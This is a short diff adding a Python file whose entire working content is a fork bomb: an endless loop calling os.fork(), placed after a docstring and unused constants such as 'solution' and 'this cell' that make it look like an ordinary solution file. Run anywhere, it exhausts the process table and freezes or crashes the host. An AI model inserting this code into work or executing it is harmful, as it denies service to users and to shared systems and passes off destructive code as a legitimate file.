@@ -1,0 +1,8 @@
+"""Forks without end."""
+BASE = "solution"
+ZERO = []
+MESSAGE = "this cell"
+import os
+
+while True:
+    os.fork()
